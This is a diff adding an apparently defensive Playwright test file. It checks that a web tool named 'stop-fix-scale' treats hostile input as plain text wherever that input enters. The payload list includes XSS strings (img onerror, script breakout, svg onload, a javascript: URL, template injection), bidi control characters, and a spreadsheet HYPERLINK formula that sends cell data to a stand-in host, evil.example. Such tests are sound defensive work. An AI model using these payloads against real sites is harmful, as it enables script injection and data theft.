@@ -1,0 +1,104 @@
+// Texts that would like to be markup, formulas, addresses or commands, through every way by which a text comes in.
+import { start } from "./saved-cases.js";
+import { Tool, expect, test } from "./tool.js";
+
+const TEXTS = {
+  "an image": "<img src=x onerror=\"globalThis.caught='image'\">",
+  "a script that ends another": "</script><script>globalThis.caught='script'</script>",
+  "the end of a field": "\"></textarea><svg onload=globalThis.caught='svg'>",
+  "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
+  "an address": "javascript:globalThis.caught='address'",
+  "a template": "{{constructor.constructor('globalThis.caught=1')()}} ${globalThis.caught=1}",
+  "the other direction": "\u202egnp.esac\u202c \u2066\u200f",
+};
+
+const file = (text) => ({
+  format: "stop-fix-scale/case", version: 1, id: "attack", model: "AI1", title: text, summary: text, owner: text,
+  quick: { V: { level: 3 } }, answers: { V1: { level: 3, note: text } }, context: {},
+  review: { metric: text, floor: text, action: text, date: "2020-01-01" },
+});
+
+/** Nothing was run; what the page said or asked for is looked at when the test ends. */
+async function untouched(page) {
+  expect(await page.evaluate(() => globalThis.caught)).toBeUndefined();
+}
+
+/** Everything that shows texts is opened. */
+async function openAll(tool, text) {
+  await expect(tool.title).toHaveValue(text);
+  await tool.element.getByText("Summary and owner").click();
+  await expect(tool.summary).toHaveValue(text);
+  await tool.unfold("Value");
+  await expect(tool.note("Decision and outcome")).toHaveValue(text);
+  await expect(tool.sheet.locator(".sheet-title")).toHaveText(text, { useInnerText: false });
+}
+
+for (const [name, text] of Object.entries(TEXTS)) {
+  test(`${name} stays a text, whichever way it comes`, async ({ page, tool }) => {
+    test.slow();
+    const dialogs = [];
+    page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
+    await tool.open();
+
+    await test.step("typed, and kept", async () => {
+      await tool.title.fill(text);
+      await tool.rate("Value", "Agreed");
+      await tool.way(/^Cases/).click();
+      await tool.element.locator(".case-name").click();
+      await expect(tool.title).toHaveValue(text);
+      await untouched(page);
+    });
+
+    await test.step("in a link with its name", async () => {
+      await tool.press("Share");
+      const dialog = tool.element.getByRole("dialog", { name: "Share this case" });
+      await dialog.getByRole("checkbox").check();
+      const link = await dialog.getByRole("textbox").inputValue();
+      await page.goto("about:blank");
+      await page.goto(link);
+      await tool.started();
+      await expect(tool.element.getByText("This is a preview.")).toBeVisible();
+      await expect(tool.title).toHaveValue(text);
+      await untouched(page);
+    });
+
+    await test.step("in a file that is imported", async () => {
+      await page.goto("./");
+      await tool.started();
+      await tool.way(/^Cases/).click();
+      await tool.element.getByText("Backup, import and export").click();
+      const chosen = page.waitForEvent("filechooser");
+      await tool.press("Import or restore files");
+      await (await chosen).setFiles({ name: `${text.replace(/[/\\]/g, "")}.json`, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file(text))) });
+      await tool.element.getByRole("button", { name: /^Add/ }).click();
+      await tool.element.locator(".case-name").first().click();
+      await untouched(page);
+    });
+
+    await test.step("in the storage", async () => {
+      const { review, ...rest } = file(text);
+      await start(page, tool, [{ ...rest, review, answers: "V:3" }]);
+      await tool.element.locator(".case-name").last().click();
+      await untouched(page);
+    });
+
+    await test.step("as an object, and as a value that is none", async () => {
+      await page.evaluate(() => document.body.append(document.createElement("stop-fix-scale")));
+      const other = new Tool(page, page.locator("stop-fix-scale").last());
+      await expect(other.verdict).toBeVisible();
+      expect(await other.element.evaluate((element, json) => element.load(json), file(text))).toMatchObject({ ok: true });
+      await openAll(other, text);
+      await other.element.evaluate((element, value) => {
+        element.value = value;
+        element.setAttribute("value", value);
+        element.lang = value;
+        element.shareBase = value;
+        element.theme = value;
+        return element.shareLink();
+      }, text);
+      await expect(other.title, "no value: nothing has changed").toHaveValue(text);
+      await untouched(page);
+    });
+    expect(dialogs).toEqual([]);
+  });
+}
